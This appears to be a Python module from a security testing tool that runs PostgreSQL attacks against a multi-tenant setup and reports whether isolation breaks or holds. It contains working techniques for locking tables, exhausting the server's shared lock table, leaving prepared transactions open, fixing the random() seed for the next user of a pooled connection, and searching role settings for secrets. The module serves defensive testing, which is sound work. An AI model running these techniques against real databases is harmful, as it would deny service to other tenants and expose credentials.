"""Attacks with what PostgreSQL allows every role: give up rights, wait for locks, fill a table of the server, choose a seed."""

from __future__ import annotations

from threading import Thread
from time import monotonic, sleep
from typing import Any
from uuid import uuid4

import psycopg

from tenantry.mapping.project import Project
from tenantry.postgres import literal, load_sql
from tenantry.prove.attacks.harness.attempt import SQL, AttackSession, Attempt
from tenantry.prove.attacks.harness.model import AttackVerdict, attack, broken, held, in_module, not_applicable
from tenantry.prove.attacks.harness.rights import right
from tenantry.prove.attacks.privileges import roles_of, word
from tenantry.prove.lint.facts import plain_backslashes

_LOCKED = """
select count(*), min(relation::regclass::text) from pg_locks
 where pid = %s and locktype = 'relation' and mode = 'AccessExclusiveLock' and granted
"""


@attack("writes", tries="Gives up all rights of the current role, with DROP OWNED BY CURRENT_USER, as every role of the attacker.",
        gains="Every table whose policies name the role is locked for everyone, until the transaction ends.",
        source="https://www.postgresql.org/docs/current/sql-drop-owned.html", rights=right("gives_up"))  # fmt: skip
def lock_by_giving_up(attempt: Attempt) -> AttackVerdict:
    answers = []
    for role in roles_of(attempt):
        with attempt.acting_as(attempt.attacker) as me:
            me.raw(f"set local role {role}")
            answer = me.run("drop owned by current_user")
            answers.append(str(answer))
            locked, name = attempt.world.ask(_LOCKED, [me.connection.info.backend_pid])[0]
        if locked:
            return broken(f"DROP OWNED BY {word(role)} locks {locked} tables for everyone, as {name}")
    return held(f"it locks no table: {'; '.join(dict.fromkeys(answers))}")


@attack("writes", tries="Reads a table in an open transaction, and requests in a second session, by CREATE RULE, a lock without a right to it, and"
        " waits.", gains="Everyone else's statements wait: PostgreSQL waits for the lock before it checks the right.",
        source="https://www.postgresql.org/docs/current/explicit-locking.html")  # fmt: skip
def lock_queue(attempt: Attempt) -> AttackVerdict:
    target = next(iter(attempt.open_tables(attempt.victim)), None)
    if target is None:
        return not_applicable("no member of the other tenant sees a row")
    statement = f"create rule planted as on insert to {target.name} do nothing"
    waiting = attempt.connect()
    pid = waiting.connection.info.backend_pid
    with attempt.acting_as(attempt.attacker) as me, attempt.acting_as(attempt.attacker, waiting):
        me.run(f"select 1 from {target.name} limit 1")
        thread = Thread(target=waiting.raw, args=[statement])
        thread.start()
        try:
            until = monotonic() + 2
            while monotonic() < until and thread.is_alive() and not _waits(attempt, pid):
                sleep(0.02)
            with attempt.acting_as(attempt.victim) as other:
                other.raw("set local lock_timeout = '300ms'")
                answer = other.run(f"select count(*) from {target.name}")
        finally:
            me.raw("rollback")
            thread.join()
    if answer.sqlstate == "55P03":
        return broken(
            f"{target.table.name}: others wait behind a statement that waits for a lock to which it has no right"
        )
    return held(f"no session waited: {answer}")


def _waits(attempt: Attempt, pid: int) -> bool:
    return bool(attempt.world.ask("select 1 from pg_locks where pid = %s and not granted", [pid]))


@attack("privileges", tries="Takes thousands of advisory locks. Only the right to do so is checked: doing it would stop every database of the"
        " server.", gains="A full lock table, which all databases share: everyone's statements and connections fail.",
        source="https://www.postgresql.org/docs/current/explicit-locking.html#ADVISORY-LOCKS", rights=right("advisory_locks"))  # fmt: skip
def fill_the_lock_table(attempt: Attempt) -> AttackVerdict:
    found = right("advisory_locks")(attempt.world.owner, attempt.project)
    return broken(found) if found else held("neither clients nor the login may take advisory locks")


@attack("session", tries="Leaves a transaction prepared, by PREPARE TRANSACTION, and never finishes it.",
        gains="Locks that survive the session and a restart; rows that no VACUUM removes.",
        source="https://www.postgresql.org/docs/current/sql-prepare-transaction.html", rights=right("prepared_transactions"))  # fmt: skip
def prepared_transaction(attempt: Attempt) -> AttackVerdict:
    name = literal(f"planted_{uuid4().hex}")
    with attempt.acting_as(attempt.attacker, keep=True) as me:
        answer = me.raw(f"prepare transaction {name}")
        if answer.ok:
            me.raw(f"rollback prepared {name}")
            return broken("a transaction was left prepared; the server's max_prepared_transactions allows that")
    return held(f"refused: {answer}")


@attack("session", tries="Sets the seed of random(), which DISCARD ALL does not reset, for the next user of the connection.",
        gains="Knowledge of the next user's random numbers, and so of codes, samples and orders made from them.",
        source="https://www.postgresql.org/docs/current/functions-math.html#FUNCTIONS-MATH-RANDOM-TABLE")  # fmt: skip
def random_numbers_left(attempt: Attempt) -> AttackVerdict:
    mine = attempt.connect()
    mine.run("select setseed(0.25)")
    known = mine.run("select random()").value
    with attempt.pool() as pool:
        with (
            pool.connection() as connection,
            attempt.acting_as(attempt.attacker, AttackSession(connection), keep=True) as me,
        ):
            me.run("select setseed(0.25)")
        with pool.connection() as connection, attempt.acting_as(attempt.victim, AttackSession(connection)) as other:
            drawn = other.run("select random()").value
    if drawn == known:
        return broken("the next user drew the numbers that the attacker had chosen")
    return held("the next user drew other numbers")


def _loose(connection: psycopg.Connection[Any], project: Project) -> str | None:
    """Return which functions have a text with another meaning under standard_conforming_strings off; None if there is none."""
    roles = project.manifest.database_roles
    parameters = {"client": roles.authenticated, "anon": roles.anon, "schema": project.target.schema}
    rows = connection.execute(load_sql(SQL, "texts").encode(), parameters).fetchall()
    found = [str(name) for name, text in rows if plain_backslashes(str(text))]
    if not found:
        return None
    more = f", and {len(found) - 1} more" if len(found) > 1 else ""
    return f"{found[0]} has a backslash in a literal, whose meaning a caller can change{more}"


@attack("session", tries="Makes the session parse functions and triggers for the first time with standard_conforming_strings off, then returns the"
        " connection: the parsed functions stay cached after every DISCARD.",
        gains="Another meaning of patterns and quotes in functions, for the attacker's calls and the next user's.",
        source="https://www.postgresql.org/docs/current/runtime-config-compatible.html#GUC-STANDARD-CONFORMING-STRINGS", rights=_loose)  # fmt: skip
def function_texts_left(attempt: Attempt) -> AttackVerdict:
    found = _loose(attempt.world.owner, attempt.project)
    return broken(found) if found else held("no function that runs for clients depends on it")


@attack("reads", tries="Searches the settings of the database and of roles, which any login may read, for keys, tokens and passwords.",
        gains="A secret that signs tokens or opens services, and with it any identity.",
        source="https://www.postgresql.org/docs/current/catalog-pg-db-role-setting.html", rights=right("secret_settings"))  # fmt: skip
def secrets_in_settings(attempt: Attempt) -> AttackVerdict:
    with attempt.acting_as(attempt.attacker) as me:
        for role in roles_of(attempt):
            me.raw(f"set local role {role}")
            answer = me.run(
                "select split_part(s.text, '=', 1) from pg_db_role_setting as d cross join lateral unnest(d.setconfig) as s (text)"
                " where d.setdatabase in (0, (select oid from pg_database where datname = current_database()))"
                " and split_part(s.text, '=', 1) ~* '[.].*(secret|passw|token|credential|(api|private|service|signing|jwt|access)_?key)'"
                " and split_part(s.text, '=', 2) <> ''"
            )
            if answer.rows:
                return broken(f"{word(role)} reads the setting {answer.value}")
    return held("no setting has the name of a secret")


ATTACKS = in_module(globals())

__all__ = ["ATTACKS"]
